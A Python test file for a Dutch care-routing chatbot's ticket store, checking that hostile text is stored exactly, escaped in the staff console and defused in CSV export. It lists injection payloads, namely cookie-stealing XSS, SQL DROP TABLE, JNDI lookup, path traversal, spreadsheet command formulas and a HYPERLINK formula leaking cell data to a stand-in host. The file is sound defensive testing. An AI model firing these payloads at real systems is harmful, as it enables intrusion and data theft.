"""Hostile ticket fields: stored and read back exactly, shown as text in the console, exported without formulas."""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from bot.errors import TicketError, UnstorableTextError
from bot.handover import Contact, transcript_from_turns
from bot.knowledge import KnowledgeBase
from bot.tickets.cli import CSV_COLUMNS, export_tickets
from bot.tickets.db import Database
from bot.tickets.draft import TicketDraft
from bot.tickets.models import Ticket
from bot.tickets.repository import add_ticket, change_status, get_ticket, ticket_to_dict
from tests.bot.tickets.conftest import NOW, make_draft

FUZZ = settings(max_examples=200, deadline=None)

PAYLOADS = (
    "<script>alert(1)</script>", '<img src=x onerror="alert(document.cookie)">', "'; DROP TABLE tickets; --",
    "{{ 7*7 }}", "{% for x in y %}", "${jndi:ldap://x}", "../../etc/passwd", "C:\\Windows\\system32",
    '{"intent": "crisis"}', '"}]', "\x00", "\u202e", "\u200b", "\r\n", "", " ", "=cmd|' /C calc'!A0",
)
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def free_text(max_size: int) -> st.SearchStrategy[str]:
    """Any unicode (no surrogates: they cannot be stored as UTF-8), markup, SQL, empty, very long."""
    return st.one_of(
        st.text(max_size=max_size),
        st.sampled_from(PAYLOADS).map(lambda s: s[:max_size]),
        st.builds(lambda unit, times: (unit * times)[:max_size], st.text(min_size=1, max_size=30),
                  st.integers(1, 20_000)),
    )


turns = st.lists(st.fixed_dictionaries({"from": st.sampled_from(("burger", "zorgroute")), "text": free_text(5_000)}),
                min_size=1, max_size=5)


def ticket_fields(transcripts: st.SearchStrategy[list[dict[str, str]] | None]) -> st.SearchStrategy[dict[str, Any]]:
    """The free-text fields of a ticket; sizes as the columns of bot/tickets/models.py allow.

    bot.handover and bot.privacy.contact keep contact details within those sizes.
    """
    return st.fixed_dictionaries({
        "summary": free_text(60_000),
        "transcript": transcripts,
        "contact_method": st.sampled_from((None, "telefoon", "email")),
        "contact_value": st.none() | free_text(254),
        "contact_name": st.none() | free_text(80),
        "contact_time": st.none() | free_text(64),
    })


hostile_fields = ticket_fields(st.none() | st.just([]) | turns)
Render = Callable[..., str]  # a console template name and its values -> the HTML page
FIELDS = ("summary", "transcript", "contact_method", "contact_value", "contact_name", "contact_time")


def stored_fields(ticket: Ticket) -> dict[str, Any]:
    data = ticket_to_dict(ticket)
    contact = data["contact"]
    return {"summary": data["summary"], "transcript": data["transcript"], "contact_method": contact["method"],
            "contact_value": contact["value"], "contact_name": contact["name"], "contact_time": contact["time"]}


def draft_fields(draft: TicketDraft) -> dict[str, Any]:
    return {name: getattr(draft, name) for name in FIELDS}


def count(database: Database) -> int:
    with database.unit_of_work() as session:
        return session.execute(select(func.count()).select_from(Ticket)).scalar_one()


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
def test_any_free_text_is_stored_exactly_and_leaves_other_tickets_alone(database: Database, kb: KnowledgeBase) -> None:
    anchor = make_draft(kb, "anker", transcript=[{"from": "burger", "text": "mijn moeder wacht al 20 weken"}])
    with database.unit_of_work() as session:
        add_ticket(session, anchor, NOW)
    conversations = itertools.count()

    @FUZZ
    @given(first=hostile_fields, second=hostile_fields)
    def store_two_and_read_back(first: dict[str, Any], second: dict[str, Any]) -> None:
        number = next(conversations)
        drafts = [replace(make_draft(kb, f"gesprek-{number}-{side}"), **fields)
                  for side, fields in (("a", first), ("b", second))]
        before = count(database)
        try:
            with database.unit_of_work() as session:
                for draft in drafts:
                    assert add_ticket(session, draft, NOW)[1]  # created now
        except TicketError:
            assert count(database) == before  # refused as a whole, with a named error
        else:
            assert count(database) == before + 2
            with database.unit_of_work() as session:
                for draft in drafts:
                    assert stored_fields(get_ticket(session, draft.reference)) == draft_fields(draft)
        with database.unit_of_work() as session:
            assert stored_fields(get_ticket(session, anchor.reference)) == draft_fields(anchor)

    store_two_and_read_back()


def test_hostile_payloads_are_stored_exactly_on_every_database(database: Database, kb: KnowledgeBase) -> None:
    payloads = [payload for payload in PAYLOADS if "\x00" not in payload]  # NUL: see the test below
    drafts = [replace(make_draft(kb, f"payload-{number}", transcript=[{"from": "burger", "text": payload}]),
                      summary=payload, contact_value=payload, contact_name=payload, contact_time=payload)
              for number, payload in enumerate(payloads)]
    with database.unit_of_work() as session:
        for draft in drafts:
            add_ticket(session, draft, NOW)
    with database.unit_of_work() as session:
        for draft in drafts:
            assert stored_fields(get_ticket(session, draft.reference)) == draft_fields(draft)
    assert count(database) == len(payloads)


@pytest.mark.parametrize("field", ["contact_time", "transcript"])
def test_a_draft_with_a_nul_is_refused_by_name_on_every_database(database: Database, kb: KnowledgeBase,
                                                                  field: str) -> None:
    typed = "morgen\x00 na tienen"
    value: Any = [{"from": "burger", "text": typed}] if field == "transcript" else typed
    draft = replace(make_draft(kb, "nul"), **{field: value})
    with pytest.raises(UnstorableTextError) as refused, database.unit_of_work() as session:
        add_ticket(session, draft, NOW)
    assert field in refused.value.problem and "NUL" in refused.value.dutch_message
    assert count(database) == 0


def test_a_nul_typed_by_the_citizen_does_not_cost_the_handover(database: Database, kb: KnowledgeBase) -> None:
    # The real path: what the citizen typed is cleaned where it enters the draft, so the ticket is stored.
    typed = "morgen\x00 na\u200b tienen"
    draft = make_draft(kb, "nul-getypt", transcript=transcript_from_turns([("burger", f"help {typed}")]),
                       contact=Contact("telefoon", "06 12345678", "An\x00na", typed))
    with database.unit_of_work() as session:
        add_ticket(session, draft, NOW)
    with database.unit_of_work() as session:
        stored = stored_fields(get_ticket(session, draft.reference))
    assert stored["contact_time"] == "morgen na tienen" and stored["contact_name"] == "An na"
    assert stored["transcript"] == [{"from": "burger", "text": "help morgen na tienen"}]


SCRIPT = "<script>alert('xss')</script>"


class Page(HTMLParser):
    """The tags of a page and the text a browser would show (entities decoded)."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.text: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    @property
    def shown(self) -> str:
        return "".join(self.text)


@pytest.fixture(scope="module")
def templates(tmp_path_factory: pytest.TempPathFactory) -> Render:
    """The console's own template environment (autoescaping as configured in bot/web/app.py)."""
    from bot.config import Settings
    from bot.web.app import WebContext

    data_dir = tmp_path_factory.mktemp("web")
    context = WebContext(Settings.from_env(env_file=None, environ={"ZORGROUTE_DATA_DIR": str(data_dir)}))

    def render(template: str, **values: Any) -> str:
        return bytes(context.render(template, user="anna", csrf="token", **values).body or b"").decode()

    return render


def ticket_page_of(render: Render, kb: KnowledgeBase, ticket: dict[str, Any], error: str | None = None) -> str:
    return render("ticket.html", ticket=ticket, next_statuses=["afgesloten", "in_behandeling"], error=error,
                  targets=kb.handover_desks())


def test_the_ticket_page_shows_script_in_every_field_as_text(database: Database, kb: KnowledgeBase,
                                                              templates: Render) -> None:
    draft = replace(make_draft(kb, "xss", transcript=[{"from": "burger", "text": SCRIPT}]),
                    summary=SCRIPT, contact_value=SCRIPT, contact_name=SCRIPT, contact_time=SCRIPT[:64])
    with database.unit_of_work() as session:
        add_ticket(session, draft, NOW)
        change_status(session, draft.reference, "in_behandeling", actor="anna", note=SCRIPT, now=NOW)
    with database.unit_of_work() as session:
        ticket = ticket_to_dict(get_ticket(session, draft.reference))
    page = ticket_page_of(templates, kb, ticket, error=SCRIPT)  # ?fout=... is shown on the page too
    queue = templates("queue.html", rows=[ticket], filters={"target": None, "status": None, "category": None,
                                                             "age": None},
                      targets=kb.handover_desks(), statuses=(), categories=(), ages={}, export_query="",
                      chart={"per_category": [], "per_week": []})
    for markup in (page, queue):
        assert "<script" not in markup.lower()
        assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;" in markup
        assert "script" not in [tag for tag, _ in Page(markup).tags]
    assert Page(page).shown.count(SCRIPT) == 7  # summary, contact value, name and time, transcript, note, error


@FUZZ
@given(fields=ticket_fields(turns), note=free_text(1000))
def test_the_ticket_page_structure_does_not_depend_on_the_text(kb: KnowledgeBase, templates: Render,
                                                                fields: dict[str, Any], note: str) -> None:
    draft = replace(make_draft(kb, "pagina"), **fields)
    plain = {name: (value if not isinstance(value, str) or not value else "x") for name, value in fields.items()}
    plain["transcript"] = [{"from": turn["from"], "text": "x" if turn["text"] else ""} for turn in fields["transcript"]]

    def as_shown(values: dict[str, Any], event_note: str) -> dict[str, Any]:
        ticket = {**draft.to_dict(), **{k: v for k, v in values.items() if not k.startswith("contact_")},
                  "created_at": NOW.isoformat(), "status": "nieuw", "facts": draft.facts, "events": [
                      {"at": NOW.isoformat(), "actor": "anna", "from": None, "to": "nieuw", "note": event_note}]}
        ticket["contact"] = {"method": values["contact_method"], "value": values["contact_value"],
                             "name": values["contact_name"], "time": values["contact_time"]}
        return ticket

    hostile = Page(ticket_page_of(templates, kb, as_shown(fields, note)))
    harmless = Page(ticket_page_of(templates, kb, as_shown(plain, "x" if note else "")))
    assert hostile.tags == harmless.tags  # no field adds, removes or changes an element or attribute
    shown = hostile.shown
    for value in [fields["summary"], *(turn["text"] for turn in fields["transcript"])]:
        assert value in shown  # the browser shows exactly what was stored


def csv_row(**cells: Any) -> dict[str, Any]:
    """A ticket as :func:`ticket_to_dict` gives it, with the CSV cells set."""
    contact = {key: cells.pop(f"contact_{key}", None) for key in ("method", "value", "name", "time")}
    return {"reference": "ZR-2222222", "created_at": NOW.isoformat(), "target": "juiste_loket", "category": "wlz",
            "status": "nieuw", "rule": "wlz_default", "ladder": ["ciz"], "summary": None, **cells,
            "contact": contact}


# NUL is left out here: see test_a_nul_in_a_field_does_not_break_the_csv_export.
no_nul_text = st.text().filter(lambda s: "\x00" not in s)
formula_cells = st.one_of(
    st.builds(lambda lead, rest: lead + rest, st.sampled_from(FORMULA_LEADS), no_nul_text),
    st.sampled_from(("=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                     '=HYPERLINK("http://x.example/?"&A1,"klik")', "=1+1", "\t=1+1", "\r=1+1")),
    no_nul_text,
)
FREE_COLUMNS = ("summary", "contact_value", "contact_name", "contact_time")


@FUZZ
@given(cells=st.fixed_dictionaries(dict.fromkeys(FREE_COLUMNS, formula_cells)), copies=st.integers(1, 3))
def test_csv_export_never_starts_a_cell_with_a_formula(cells: dict[str, str], copies: int) -> None:
    out = io.StringIO()
    export_tickets([csv_row(**cells) for _ in range(copies)], "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == copies  # a line break in a cell never starts a new row
    for row in rows:
        assert tuple(row) == CSV_COLUMNS
        for column in FREE_COLUMNS:
            cell, value = row[column], cells[column]
            assert not cell.startswith(FORMULA_LEADS), (column, cell)
            # Only the quote is added, only where needed: the cell still says exactly what was typed.
            assert cell == ("'" + value if value.startswith(FORMULA_LEADS) else value)


def test_a_nul_in_a_field_does_not_break_the_csv_export() -> None:
    out = io.StringIO()
    export_tickets([csv_row(contact_method="telefoon", contact_value="06 12345678", contact_time="morgen\x00")],
                   "csv", out)
    assert "morgen" in out.getvalue()
